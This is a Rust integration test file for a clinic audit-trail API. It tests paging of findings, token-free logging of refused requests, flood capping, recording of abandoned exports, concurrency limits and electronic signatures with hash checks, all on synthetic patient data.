    let db = tempfile::tempdir().unwrap();
    let settings = ApiSettings {
        listen: "0.0.0.0:0".parse().unwrap(),
        db: db.path().join("api.sled"),
        cache_bytes: 8 << 20,
        projector: ProjectorSettings::default(),
        broker: None,
        max_in_flight: prolo_audit_api::DEFAULT_MAX_IN_FLIGHT,
        seal: None,
    };
    let (_trigger, shutdown) = prolo_bus::Shutdown::new();
    let refused = prolo_audit_api::run(
        settings.open_store().unwrap(),
        nats.client().await.unwrap(),
        example,
        settings,
        shutdown,
        |_| {},
    )
    .await;
    assert!(
        matches!(refused, Err(prolo_audit_api::ApiRunError::ExampleTokens(_))),
        "{refused:?}"
    );
}

#[tokio::test]
async fn findings_and_lot_traces_are_paged() {
    let (nats, recorders, client) = Stack::start().await.parts();
    for i in 0..5 {
        let mut injection = example_request("injection.given");
        injection["patient_id"] = format!("P-PAGE-{i}").into();
        record_ok(&client, InjectionGiven, &injection).await;
    }
    let api = Api::start(&nats).await;
    api.caught_up().await;

    let mut seen = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let path = match &cursor {
            None => "/v1/clinics/riverside/findings?rule=no_active_consent&limit=2".to_owned(),
            Some(c) => {
                format!("/v1/clinics/riverside/findings?rule=no_active_consent&limit=2&cursor={c}")
            }
        };
        let page = api.json(COMPLIANCE, &path).await;
        assert_eq!(page["total"], 5, "{page}");
        let items = page["items"].as_array().unwrap();
        assert!(items.len() <= 2);
        seen.extend(items.iter().map(|f| f["id"].as_str().unwrap().to_owned()));
        match page["next_cursor"].as_str() {
            Some(next) => cursor = Some(next.to_owned()),
            None => break,
        }
    }
    let distinct: std::collections::BTreeSet<_> = seen.iter().collect();
    assert_eq!((seen.len(), distinct.len()), (5, 5), "{seen:?}");

    // Every rule, paged by 3: the total comes from the fold's counts, and
    // the pages hold every finding of the whole list once, in its order.
    let whole = api
        .json(COMPLIANCE, "/v1/clinics/riverside/findings?limit=1000")
        .await;
    let all: Vec<String> = whole["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["id"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(whole["total"], all.len(), "{whole}");
    assert!(
        all.len() > 5,
        "each injection breaks several rules: {whole}"
    );
    let (mut paged, mut cursor) = (Vec::new(), None::<String>);
    loop {
        let mut path = "/v1/clinics/riverside/findings?limit=3".to_owned();
        if let Some(c) = &cursor {
            path.push_str(&format!("&cursor={c}"));
        }
        let page = api.json(COMPLIANCE, &path).await;
        assert_eq!(page["total"], all.len(), "{page}");
        paged.extend(
            page["items"]
                .as_array()
                .unwrap()
                .iter()
                .map(|f| f["id"].as_str().unwrap().to_owned()),
        );
        match page["next_cursor"].as_str() {
            Some(next) => cursor = Some(next.to_owned()),
            None => break,
        }
    }
    assert_eq!(paged, all);

    let mut patients = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let mut path = "/v1/clinics/riverside/lots/DX50-2026-114/trace?limit=2".to_owned();
        if let Some(c) = &cursor {
            path.push_str(&format!("&cursor={c}"));
        }
        let page = api.json(SAFETY, &path).await;
        assert_eq!(page["total_injections"], 5, "{page}");
        patients.extend(
            page["injections"]
                .as_array()
                .unwrap()
                .iter()
                .map(|r| r["patient_id"].as_str().unwrap().to_owned()),
        );
        match page["next_cursor"].as_str() {
            Some(next) => cursor = Some(next.to_owned()),
            None => break,
        }
    }
    assert_eq!(
        patients,
        (0..5).map(|i| format!("P-PAGE-{i}")).collect::<Vec<_>>()
    );
    assert_eq!(
        api.get(Some(SAFETY), "/v1/clinics/riverside/findings?limit=0")
            .await
            .0,
        400
    );
    api.stop().await;
    recorders.stop().await;
}

#[tokio::test]
async fn refused_requests_are_recorded_without_the_token_and_a_flood_is_capped() {
    let (nats, recorders, client) = Stack::start().await.parts();
    record_example(&client, InjectionGiven).await;
    let api = Api::start(&nats).await;
    api.caught_up().await;

    let history = "/v1/clinics/riverside/patients/P-1042/history";
    assert_eq!(api.get(None, history).await.0, 401);
    assert_eq!(
        api.get(Some("a-token-nobody-has-0123"), history).await.0,
        401
    );
    let access_log = "/v1/clinics/riverside/patients/P-1042/access-log";
    assert_eq!(api.get(Some(SAFETY), access_log).await.0, 403);
    api.caught_up().await;
    let refused = api
        .json(COMPLIANCE, "/v1/clinics/riverside/access-refused")
        .await;
    assert_eq!(refused["total"], 3, "{refused}");
    let items = refused["items"].as_array().unwrap();
    let principals: Vec<&str> = items
        .iter()
        .map(|e| e["payload"]["principal_id"].as_str().unwrap())
        .collect();
    assert_eq!(principals, vec!["anonymous", "anonymous", "reviewer-ng"]);
    assert_eq!(items[2]["payload"]["status"], 403);
    assert_eq!(items[2]["payload"]["path"], access_log);
    assert!(
        items[2]["payload"]["reason"]
            .as_str()
            .unwrap()
            .starts_with("forbidden"),
        "{}",
        items[2]
    );
    assert!(
        !refused.to_string().contains("a-token-nobody-has-0123"),
        "a token was recorded"
    );
    // Safety may not list refusals; a riverside token not another clinic's.
    assert_eq!(
        api.get(Some(SAFETY), "/v1/clinics/riverside/access-refused")
            .await
            .0,
        403
    );

    // A flood from one address: at most 30 a minute are recorded.
    for _ in 0..60 {
        api.get(None, history).await;
    }
    api.caught_up().await;
    let after = api
        .json(
            COMPLIANCE,
            "/v1/clinics/riverside/access-refused?limit=1000",
        )
        .await;
    assert_eq!(after["total"], 30, "3 + 1 (safety) + 26 of the flood");
    api.stop().await;
    recorders.stop().await;
}

#[tokio::test]
async fn an_export_the_client_abandons_is_recorded_as_incomplete() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let nats = NatsServer::start().await.unwrap();
    let client = nats.client().await.unwrap();
    let js = jetstream::new(client.clone());
    prolo_bus::ensure_stream(&js, &prolo_bus::StreamSettings::default())
        .await
        .unwrap();
    // One patient with 15,000 events (adjunct-therapy recommendations,
    // which the fold applies cheaply): about 15 MB of JSON Lines, far more
    // than the sockets between server and client can hold.
    const EVENTS: usize = 15_000;
    let types = prolo_schemas::EventType::ALL.len();
    let stored = prolo_tests::publish_all(
        &js,
        prolo_tests::synthetic_events(EVENTS * types, 1)
            .filter(|e| e.event_type() == AdjunctTherapyRecommended)
            .take(EVENTS),
        256,
    )
    .await;
    assert_eq!(stored, EVENTS as u64);
    let api = Api::start(&nats).await;
    api.caught_up().await;

    // A client that reads the first 64 KiB of the export and goes away.
    let address = api.base.trim_start_matches("http://").parse().unwrap();
    let socket = tokio::net::TcpSocket::new_v4().unwrap();
    socket.set_recv_buffer_size(4096).unwrap();
    let mut stream = socket.connect(address).await.unwrap();
    let request = format!(
        "GET /v1/clinics/riverside/patients/P-000000/history?format=jsonl HTTP/1.1\r\n\
         Host: {address}\r\nAuthorization: Bearer {COMPLIANCE}\r\n\r\n"
    );
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut received = vec![0u8; 64 * 1024];
    stream.read_exact(&mut received).await.unwrap();
    assert!(received.starts_with(b"HTTP/1.1 200"));
    drop(stream);

    // The read was recorded before the body, and its early end after it.
    let give_up = tokio::time::Instant::now() + Duration::from_secs(30);
    let (first, cut) = loop {
        let events = access_recorded(&js).await;
        let cut = events.iter().find(|e| e.payload["incomplete"].is_object());
        if let Some(cut) = cut {
            break (events[0].clone(), cut.clone());
        }
        assert!(
            tokio::time::Instant::now() < give_up,
            "no incomplete export recorded: {events:?}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    assert_eq!(first.payload["query"], "patient_history");
    assert_eq!(first.payload["records_returned"], EVENTS as u64);
    assert!(first.payload["incomplete"].is_null());
    assert_eq!(cut.causation_id, Some(first.event_id.to_string()));
    assert_eq!(cut.payload["patient_id"], "P-000000");
    assert_eq!(cut.payload["incomplete"]["records_total"], EVENTS as u64);
    let sent = cut.payload["records_returned"].as_u64().unwrap();
    assert!(sent < EVENTS as u64, "{sent} rows sent of {EVENTS}");
    assert!(
        cut.payload["incomplete"]["reason"]
            .as_str()
            .unwrap()
            .contains("connection ended"),
        "{cut:?}"
    );
    // The patient's access log shows both.
    api.caught_up().await;
    let reads = reads_of_events(&api, "P-000000").await;
    assert!(
        reads.iter().any(|r| r["payload"]["incomplete"].is_object()),
        "{reads:?}"
    );
    api.stop().await;
}

/// An `access.recorded` event as the stream holds it.
#[derive(Debug, Clone)]
struct AccessEvent {
    event_id: String,
    causation_id: Option<String>,
    payload: Value,
}

/// Every `access.recorded` event in the stream, in order.
async fn access_recorded(js: &jetstream::Context) -> Vec<AccessEvent> {
    use futures::StreamExt;
    let stream = js.get_stream(STREAM_NAME).await.unwrap();
    let consumer = stream
        .create_consumer(pull::OrderedConfig {
            filter_subject: "clinic.*.principal.*.access.recorded".into(),
            ..Default::default()
        })
        .await
        .unwrap();
    let pending = access_events(js).await;
    let mut messages = consumer.messages().await.unwrap().take(pending as usize);
    let mut out = Vec::new();
    while let Some(message) = messages.next().await {
        let event: Value = serde_json::from_slice(&message.unwrap().payload).unwrap();
        out.push(AccessEvent {
            event_id: event["event_id"].as_str().unwrap().to_owned(),
            causation_id: event["causation_id"].as_str().map(str::to_owned),
            payload: event["payload"].clone(),
        });
    }
    out
}

/// The patient's access log, whole events.
async fn reads_of_events(api: &Api, patient: &str) -> Vec<Value> {
    let log = api
        .json(
            COMPLIANCE,
            &format!("/v1/clinics/riverside/patients/{patient}/access-log?limit=1000"),
        )
        .await;
    log["items"].as_array().unwrap().clone()
}

#[tokio::test]
async fn requests_beyond_the_concurrency_limit_wait_their_turn() {
    let (nats, recorders, client) = Stack::start().await.parts();
    record_example(&client, InjectionGiven).await;
    let api = Api::start_limited(&nats, 1).await;
    api.caught_up().await;

    // With the broker paused, a history read holds the only permit while it
    // waits to record its access (then answers 503 not_audited) ...
    let signal = |sig: &str| {
        let pid = nats.pid().unwrap().to_string();
        assert!(
            std::process::Command::new("kill")
                .args([sig, &pid])
                .status()
                .unwrap()
                .success()
        );
    };
    signal("-STOP");
    let history = {
        let (http, base) = (api.http.clone(), api.base.clone());
        tokio::spawn(async move {
            let response = http
                .get(format!(
                    "{base}/v1/clinics/riverside/patients/P-1042/history"
                ))
                .bearer_auth(COMPLIANCE)
                .send()
                .await
                .unwrap();
            (response.status().as_u16(), tokio::time::Instant::now())
        })
    };
    tokio::time::sleep(Duration::from_millis(300)).await;
    // ... so the OpenAPI document, which needs no broker, is answered only
    // after it.
    let (status, _) = api.get(None, "/openapi.json").await;
    let openapi_answered = tokio::time::Instant::now();
    signal("-CONT");
    let (history_status, history_answered) = history.await.unwrap();
    assert_eq!(status, 200);
    assert_eq!(history_status, 503, "the read could not be recorded");
    assert!(
        openapi_answered >= history_answered,
        "the second request overtook the one holding the permit"
    );
    // With the permit back, requests are answered as before.
    api.caught_up().await;
    api.json(COMPLIANCE, "/v1/clinics/riverside/patients/P-1042/summary")
        .await;
    api.stop().await;
    recorders.stop().await;
}

/// A whole clinic day, as the second contract records it: screening,
/// time-out, injection, observation, outcome, and the practitioner's
/// electronic signature on the injection, shown beside it in the history and
/// the CSV export as Part 11 asks (name, time, meaning), with whether the
/// signature's hash is that of the injection as stored.
#[tokio::test]
async fn a_clinic_day_is_on_the_history_with_the_signature_beside_the_injection() {
    let (nats, recorders, client) = Stack::start().await.parts();
    let js = jetstream::new(client.clone());
    let day = [
        ScreeningDone,
        ProcedureTimeOut,
        InjectionGiven,
        ObservationCompleted,
        OutcomeReported,
    ];
    let mut recorded = Vec::new();
    for event_type in day {
        recorded.push(record_ok(&client, event_type, &example_request(event_type.as_str())).await);
    }
    let injection = &recorded[2];
    let stored = js
        .get_stream(STREAM_NAME)
        .await
        .unwrap()
        .get_raw_message(injection.stream_seq)
        .await
        .unwrap();
    let hash = prolo_schemas::RecordSigned::sha256_of(&stored.payload);
    let mut signature = example_request("record.signed");
    signature["payload"]["target"]["event_id"] = injection.event_id.to_string().into();
    signature["payload"]["signed_event_sha256"] = hash.into();
    record_ok(&client, RecordSigned, &signature).await;
    // A signature whose hash is of other bytes is refused as a command
    // (409); one that arrives in a back-fill batch is kept, and shown as
    // not matching.
    let mut stray = signature.clone();
    stray["payload"]["meaning"] = "review".into();
    stray["payload"]["signed_event_sha256"] = "0".repeat(64).into();
    let refused = prolo_tests::record_refused(&client, RecordSigned, &stray).await;
    assert!(refused.contains("signature_not_of_record"), "{refused}");
    let batch = serde_json::json!({"events": [{"command": "record.sign", "request": stray}]});
    let reply = client
        .request(
            prolo_recorder::commands::batch_subject("riverside"),
            serde_json::to_vec(&batch).unwrap().into(),
        )
        .await
        .unwrap();
    let reply: prolo_recorder::batch::BatchReply = serde_json::from_slice(&reply.payload).unwrap();
    assert_eq!(reply.recorded, 1, "{reply:?}");

    let api = Api::start(&nats).await;
    api.caught_up().await;
    let history = api
        .json(COMPLIANCE, "/v1/clinics/riverside/patients/P-1042/history")
        .await;
    let items = history["items"].as_array().unwrap();
    let types: Vec<&str> = items
        .iter()
        .map(|i| i["event_type"].as_str().unwrap())
        .collect();
    assert_eq!(
        types,
        [
            "screening.done",
            "procedure.time_out",
            "injection.given",
            "observation.completed",
            "outcome.reported",
            "record.signed",
            "record.signed"
        ]
    );
    let signatures = items[2]["signatures"].as_array().unwrap();
    assert_eq!(signatures.len(), 2, "{}", items[2]);
    assert_eq!(signatures[0]["signer_name"], "Dr. Morgan Hale");
    assert_eq!(signatures[0]["meaning"], "authorship");
    assert_eq!(
        signatures[0]["signed_at"], items[5]["stored_at"],
        "signed when the trail stored it, not at the time the caller gave"
    );
    assert_ne!(signatures[0]["signed_at"], "2026-10-08T10:00:00Z");
    assert_eq!(
        signatures[0]["signer_proven"], false,
        "recorded by a service that does not verify identities"
    );
    assert_eq!(signatures[0]["hash_matches"], true);
    assert_eq!(signatures[1]["meaning"], "review");
    assert_eq!(signatures[1]["hash_matches"], false);
    assert!(items[0]["signatures"].as_array().unwrap().is_empty());

    let (status, csv) = api
        .get(
            Some(COMPLIANCE),
            "/v1/clinics/riverside/patients/P-1042/history?format=csv",
        )
        .await;
    assert_eq!(status, 200);
    let at = |s: &Value| {
        s["signed_at"]
            .as_str()
            .unwrap()
            .parse::<chrono::DateTime<chrono::Utc>>()
            .unwrap()
            .to_rfc3339()
    };
    let shown = format!(
        "Dr. Morgan Hale (dr-hale), authorship, {} (signer not proven); Dr. Morgan Hale (dr-hale), review, {} (HASH DOES NOT MATCH) (signer not proven)",
        at(&signatures[0]),
        at(&signatures[1])
    );
    assert!(csv.contains(&shown), "{shown}\n{csv}");
    api.stop().await;
    recorders.stop().await;
}
